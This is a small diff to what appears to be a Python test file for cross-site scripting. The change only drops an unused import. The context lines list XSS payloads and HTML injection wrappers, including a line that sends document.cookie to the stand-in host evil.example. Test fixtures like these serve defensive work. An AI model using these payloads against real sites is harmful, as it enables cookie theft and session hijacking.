@@ -8,8 +8,6 @@ from __future__ import annotations
 
 import json
 
-from tests.factories import PDF_BYTES
-
 SCRIPT_PAYLOADS = ["alert(1)", "alert(document.cookie)", "fetch('//evil.example/'+document.cookie)"]
 SCRIPT_WRAPPERS = [
     "<script>{p}</script>", "\"><script>{p}</script>", "'><img src=x onerror={p}>", "<svg/onload={p}>",
